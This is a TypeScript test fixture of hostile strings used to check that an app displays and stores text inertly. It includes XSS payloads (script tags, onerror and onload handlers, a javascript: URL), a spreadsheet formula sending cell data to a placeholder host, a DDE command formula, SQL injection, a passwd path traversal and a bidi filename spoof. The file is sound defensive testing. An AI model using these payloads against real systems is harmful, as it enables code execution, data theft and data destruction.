/**
 * Texts that break careless handling of text. They must be shown inert and saved unchanged: a screen may not
 * run one, follow it, reverse the line around it or lose a character of it.
 */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

/** Set by every script among the texts that is executed: it must stay `undefined`. */
export const hostileMark = '__hostileTextRan';

const run = `globalThis.${hostileMark}=true`;

export const hostileTexts: readonly HostileText[] = [
  { name: 'quotes', text: `"double" 'single' \`back\` “curly” 9 5/8″ \\ \\" \\n` },
  { name: 'HTML', text: '<b>bold</b> &amp; &lt;not&gt; <!-- comment --> </td></table><h1>out' },
  { name: 'script', text: `<script>${run}</script>` },
  {
    name: 'script that closes the markup before it',
    text: `"></title></textarea></script><script>${run}</script>`,
  },
  { name: 'image that fails', text: `<img src=x onerror="${run}">` },
  { name: 'SVG that loads', text: `<svg onload="${run}"><circle r="9"/></svg>` },
  { name: 'script address', text: `javascript:${run}` },
  { name: 'template', text: '${7*7} {{7*7}} <%= 7*7 %> %s %d %n' },
  { name: 'right-to-left script', text: 'تشكيل رملي - Chalk - תצורת גיר' },
  { name: 'bidi override', text: 'Chalk \u202egpj.exe\u202c \u2066isolated\u2069 \u200f\u200e' },
  { name: 'bidi override that is never closed', text: 'Top \u202e\u2067Lower Sand' },
  {
    name: 'combining characters',
    text: `Z${'\u0300\u0301\u0302\u0323\u0324\u0325\u0331\u0334'.repeat(12)}algo e\u0301 \u0301first`,
  },
  { name: 'zero-width characters', text: 'Ch\u200balk\u200d\ufeff \u2060Group\u00ad' },
  { name: 'emoji', text: '🛢️ 👩‍🔧 👨‍👩‍👧‍👦 🇳🇱 1️⃣ 𝒲𝑒𝓁𝓁 𠜎' },
  { name: 'newlines and tabs', text: 'one\ntwo\r\nthree\rfour\tfive\u2028six\u2029seven' },
  { name: 'spaces around', text: '  \u00a0Chalk\u3000 ' },
  { name: 'control characters', text: 'bell\u0007 back\b escape\u001b[31m delete\u007f' },
  { name: 'null byte', text: 'before\u0000after' },
  { name: 'half of a surrogate pair', text: 'broken \ud83d end' },
  { name: 'formula', text: '=HYPERLINK("https://example.invalid/?"&A1,"Click")' },
  { name: 'formula behind a sign', text: `+1+cmd|' /C calc'!A0` },
  { name: 'formula with an at sign', text: '@SUM(1+1)*A1' },
  { name: 'object key', text: '__proto__' },
  { name: 'word for nothing', text: 'null' },
  { name: 'number that is none', text: '1e999' },
  { name: 'SQL', text: `Robert'); DROP TABLE montages;--` },
  { name: 'path', text: '../../etc/passwd%00' },
  { name: '5,000 characters', text: 'Slochteren Sandstone '.repeat(239).slice(0, 5_000) },
  { name: '5,000 characters without a space', text: 'W'.repeat(5_000) },
];
